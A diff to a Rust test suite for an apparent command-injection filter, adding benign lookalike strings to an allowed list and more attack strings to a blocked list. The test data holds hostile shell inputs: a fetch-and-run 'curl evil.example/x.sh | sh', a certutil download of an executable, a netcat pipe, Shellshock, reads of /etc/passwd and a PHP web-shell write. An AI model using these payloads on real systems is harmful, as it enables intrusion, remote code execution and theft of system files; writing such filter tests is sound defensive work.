@@ -242,6 +242,9 @@ fn ordinary_traffic_of_other_kinds_passes() {
         "os.system() is discouraged; use subprocess.run()",
         "What does 2>&1 mean in bash?",
         "Tom & Jerry | Season 1 | Episode 3",
+        "Fast, small; curl alternative written in Go",
+        "Simple HTTP server (python -m http.server replacement)",
+        "Netcat clone with TLS support",
         "score >= 90 && attempts < 3",
         "Total: ${amount} USD",
         // Non-English text.
@@ -271,6 +274,8 @@ fn attacks_in_other_forms_are_blocked() {
         "hi there cat$IFS/etc/passwd",
         ";c\\at /et\\c/pas\\swd",
         "great article | nc 10.0.0.1 4444",
+        "& certutil -urlcache -split -f http://203.0.113.9/a.exe",
+        "x; curl -s evil.example/x.sh | sh",
         "x;gcc<<<'int main(){}'",
         "() { :; }; /bin/bash -c id",
         "x; echo \"<?php system(\\$_GET[1]);?>\" > /var/www/html/s.php",
